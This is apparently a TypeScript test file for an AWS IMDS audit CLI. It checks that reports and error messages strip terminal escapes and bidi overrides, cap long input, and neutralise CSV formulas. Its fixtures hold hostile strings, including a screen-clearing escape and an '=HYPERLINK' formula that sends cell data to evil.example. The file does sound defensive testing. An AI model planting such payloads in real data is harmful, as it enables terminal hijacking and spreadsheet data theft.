// Issue 11, point 7: data read from AWS (tags, names, messages) and user input echoed in errors must
// never reach a terminal as control sequences, and an echo is never longer than a line.
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { describe, expect, it } from "vitest";
import type { CommandIO } from "../../src/commands/options.js";
import { buildChangeReport } from "../../src/core/change-report.js";
import { echo } from "../../src/core/text.js";
import type { WatchReport } from "../../src/core/watch.js";
import { Interrupt } from "../../src/io/interrupt.js";
import { main } from "../../src/main.js";
import { REPORT_FORMATS } from "../../src/render/formats.js";
import {
  FORMATS,
  joined,
  renderAudit,
  renderChanges,
  renderOrgAudit,
  renderWatch,
} from "../../src/render/index.js";
import { sampleReport } from "./fixtures.js";
import { denied, meta, orgRun, read, scan } from "./org-fixtures.js";

/** A terminal escape (red text, then clear screen), BEL, a C1 CSI, DEL, a bidi override and isolate. */
const HOSTILE = "web\x1b[31m\x1b[2J\x07\u009b31m\x7f\u202eevil\u2066x\u2069\r\b";
const OPTS = { color: false, width: 120, maxRows: 0 };
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point.
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

function hostileAudit() {
  const report = sampleReport();
  const first = report.resources.find((r) => r.kind === "instance");
  if (!first) throw new Error("the sample report has no instance");
  first.name = HOSTILE;
  first.findings[0] = { severity: "fail", code: "imdsv1-allowed", message: `msg ${HOSTILE}` };
  first.settings.state = HOSTILE;
  const region = report.regions[2];
  if (region?.errors[0]) region.errors[0].message = HOSTILE;
  return report;
}

function hostileChanges() {
  return buildChangeReport({
    command: "enforce",
    version: "0.1.0",
    account: { id: "123456789012" },
    generatedAt: new Date(Date.UTC(2026, 10, 22)),
    mode: "apply",
    interrupted: false,
    regions: [{ region: "eu-west-1", errors: [] }],
    changes: [
      {
        region: "eu-west-1",
        kind: "instance",
        id: "i-0123456789abcdef0",
        name: HOSTILE,
        before: { httpTokens: "optional" },
        requested: { httpTokens: "required" },
      },
    ],
    skipped: [
      { region: "eu-west-1", kind: "instance", id: "i-0123456789abcdef1", name: HOSTILE, reason: HOSTILE },
    ],
  });
}

function hostileWatch(): WatchReport {
  return {
    schemaVersion: 1,
    command: "watch",
    tool: { name: "imds", version: "0.1.0" },
    account: { id: "123456789012" },
    generatedAt: "2026-11-22T10:51:00.000Z",
    journal: `j${HOSTILE}.jsonl`,
    watched: 1,
    complete: false,
    errors: [
      {
        region: "eu-west-1",
        part: "usage",
        kind: "other",
        action: "cloudwatch:GetMetricData",
        code: HOSTILE,
        message: HOSTILE,
        hint: HOSTILE,
      },
    ],
    broken: [{ region: "eu-west-1", id: "i-0123456789abcdef0", at: "2026-11-22T10:51:00.000Z", rejected: 3 }],
    rollbackCommand: `imds rollback j${HOSTILE}.jsonl`,
    verdict: { status: "broken", line: `BROKEN ${HOSTILE}` },
  };
}

describe("hostile data in every report format", () => {
  it.each(FORMATS)("audit %s carries no control character, escape, BEL or bidi override", (format) => {
    const text = joined(renderAudit(format, hostileAudit(), OPTS));
    expect(text).toContain("web");
    expect(text).not.toMatch(UNSAFE);
  });

  it.each(REPORT_FORMATS)("enforce/rollback %s carries none either", (format) => {
    expect(joined(renderChanges(format, hostileChanges(), OPTS))).not.toMatch(UNSAFE);
  });

  it.each(REPORT_FORMATS)("watch %s carries none either", (format) => {
    expect(joined(renderWatch(format, hostileWatch(), OPTS))).not.toMatch(UNSAFE);
  });

  it("JSON escapes them rather than dropping them: it parses back to exactly the data", () => {
    const report = hostileAudit();
    const text = joined(renderAudit("json", report, OPTS));
    expect(text).not.toMatch(UNSAFE);
    expect(JSON.parse(text)).toEqual(report);
    const changes = hostileChanges();
    expect(JSON.parse(joined(renderChanges("json", changes, OPTS)))).toEqual(changes);
    const watch = hostileWatch();
    expect(JSON.parse(joined(renderWatch("json", watch, OPTS)))).toEqual(watch);
  });

  it("CSV keeps a newline inside a quoted cell (RFC 4180) but nothing a terminal acts on", () => {
    const report = sampleReport();
    const first = report.resources.find((r) => r.kind === "instance");
    if (first) first.name = `a\nb${HOSTILE}`;
    const text = joined(renderAudit("csv", report, OPTS));
    expect(text).toContain('"a\nbweb');
    expect(text).not.toMatch(UNSAFE);
  });
});

describe("echo: user input and resource data quoted in an error", () => {
  it("is one safe line, capped, saying how long the value was", () => {
    const huge = `${"x".repeat(100_000)}\x1b[2J`;
    const text = echo(huge);
    expect(text.length).toBeLessThan(120);
    expect(text).not.toMatch(UNSAFE);
    expect(text).toContain("100,004 characters");
  });

  it("leaves a short value as it is", () => {
    expect(echo("eu-west-1")).toBe("eu-west-1");
  });
});

describe("errors echo user input capped (issue 11, point 7)", () => {
  async function stderrOf(args: string[]): Promise<{ code: number; stderr: string }> {
    let stderr = "";
    const sink = {
      write: (s: string) => {
        stderr += s;
        return true;
      },
    };
    const io = { stdout: sink, stderr: sink, stdin: {}, interrupt: new Interrupt() } as unknown as CommandIO;
    const code = await main(["node", "imds", ...args], io, {});
    return { code, stderr };
  }

  it("a 100 KB --regions value gives one short line, exit 2", async () => {
    const { code, stderr } = await stderrOf(["audit", "--regions", `eu-west-1,${"x".repeat(100_000)}`]);
    expect(code).toBe(2);
    expect(stderr.split("\n").filter(Boolean)).toHaveLength(1);
    expect(stderr.length).toBeLessThan(450);
    expect(stderr).toContain("100,000 characters");
  });

  it("an unknown option of 100 KB, and escapes in a value, are echoed safely", async () => {
    const unknown = await stderrOf(["audit", `--${"y".repeat(100_000)}`]);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr.length).toBeLessThan(450);
    const escaped = await stderrOf(["audit", "--states", "running,\x1b[2Jasleep"]);
    expect(escaped.code).toBe(2);
    expect(escaped.stderr).not.toMatch(UNSAFE);
  });

  it.each([
    ["--accounts of 100 KB", ["audit", "--accounts", `111111111111,${"9".repeat(100_000)}`], "12-digit"],
    ["--accounts with escapes", ["audit", "--accounts", "1111\x1b[2J11111111"], "12-digit"],
    ["--exclude-accounts not 12 digits", ["audit", "--org", "--exclude-accounts", "12345"], "12-digit"],
    ["--ou of 100 KB", ["audit", "--ou", `ou-${"a".repeat(100_000)}`], "OU or root id"],
    ["--shard 0/4", ["audit", "--org", "--shard", "0/4"], "I/N"],
    ["--shard 5/4", ["audit", "--org", "--shard", "5/4"], "I/N"],
    [
      "--role-arn without {account}",
      ["audit", "--org", "--role-arn", "arn:aws:iam::111111111111:role/x"],
      "{account}",
    ],
    [
      "--accounts-file that is not there",
      ["audit", "--accounts-file", `/nonexistent/${"\x1b[2J".repeat(9)}`],
      "not a file",
    ],
  ])("organization flags: %s is one short safe line, exit 2", async (_, args, says) => {
    const { code, stderr } = await stderrOf(args);
    expect(code).toBe(2);
    expect(stderr).toContain(says);
    expect(stderr.split("\n").filter(Boolean)).toHaveLength(1);
    expect(stderr.length).toBeLessThan(450);
    expect(stderr).not.toMatch(UNSAFE);
  });

  it("an --accounts-file line with escapes and 100 KB is named by its line, capped, exit 2", async () => {
    const file = join(mkdtempSync(join(tmpdir(), "imds-accounts-")), "accounts.txt");
    writeFileSync(file, `111111111111\n2222\x1b]0;owned\x07${"2".repeat(100_000)}\n`);
    const { code, stderr } = await stderrOf([
      "audit",
      "--accounts-file",
      file,
      "--endpoint-url",
      "http://127.0.0.1:9",
    ]);
    expect(code).toBe(2);
    expect(stderr).toContain("line 2");
    expect(stderr.length).toBeLessThan(450);
    expect(stderr).not.toMatch(UNSAFE);
    rmSync(dirname(file), { recursive: true, force: true });
  });
});

describe("hostile account names from Organizations in the organization reports", () => {
  // Account names are set by whoever administers each member account: attacker-influenced.
  const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
  function hostileOrg() {
    const named = { id: "222222222222", name: `prod${HOSTILE}` };
    const skipped = { id: "333333333333", name: `${FORMULA}\x1b]0;owned\x07`, reason: "SUSPENDED" };
    return orgRun(
      [read(named, [scan("eu-west-1", "optional")]), denied({ id: "444444444444", name: FORMULA })],
      meta({ skipped: [skipped] }),
    ).view;
  }

  it.each(REPORT_FORMATS)("%s carries no control character, escape, BEL or bidi override", (format) => {
    const text = joined(renderOrgAudit(format, hostileOrg(), { ...OPTS, detail: true }));
    expect(text).toContain("222222222222");
    expect(text).not.toMatch(UNSAFE);
  });

  it("CSV defuses the formula in an account's name and drops the escapes", () => {
    const text = joined(renderOrgAudit("csv", hostileOrg(), { ...OPTS, detail: false }));
    const skippedRow = text.split("\n").find((l) => l.startsWith("333333333333,"));
    expect(skippedRow).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(text).not.toMatch(UNSAFE);
  });

  it("JSON escapes the name rather than dropping it: it parses back to the name Organizations gave", () => {
    const view = hostileOrg();
    const text = joined(renderOrgAudit("json", view, { ...OPTS, detail: false }));
    expect(text).not.toMatch(UNSAFE);
    expect(JSON.parse(text).accounts.find((a: { id: string }) => a.id === "222222222222").name).toBe(
      `prod${HOSTILE}`,
    );
  });
});
